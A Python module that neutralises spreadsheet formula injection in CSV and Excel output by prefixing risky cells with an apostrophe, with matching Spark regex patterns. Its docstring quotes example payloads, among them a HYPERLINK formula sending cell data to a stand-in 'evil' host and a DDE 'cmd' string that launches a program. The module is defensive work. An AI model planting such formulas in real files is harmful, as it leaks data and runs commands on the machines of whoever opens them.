"""Spreadsheet formula injection: input cells are data, never formulas.

A customer file may hold `=HYPERLINK("http://evil/?"&A1,"click")`, `+cmd|' /C calc'!A0`
or `@SUM(1+1)*cmd|…` in a name cell; copied into the screened CSV as is, a spreadsheet
runs it when an analyst opens the result. Following OWASP's CSV injection guidance, a
text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their
full-width forms) gets a leading apostrophe in CSV/TSV output: spreadsheets then show
it as text. Numbers written as text ("-12.5", "+44") are left alone. In Excel output
such cells are written as typed text cells, so the value stays exactly as it was.
`keep_formulas` (CLI `--keep-formulas`) writes raw values for those who need them.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
# The same test as a Java regular expression, for Spark's `rlike`.
SPARK_FORMULA_PATTERN = "^[=+\\-@\\t\\r\\n\\uff1d\\uff0b\\uff0d\\uff20]"
SPARK_NUMBER_PATTERN = "^[+-]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][+-]?[0-9]+)?$"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would read `text` as a formula (or a DDE command)."""
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def neutralise(text: str) -> str:
    """`text`, with a leading apostrophe when a spreadsheet would run it."""
    return "'" + text if is_formula_like(text) else text
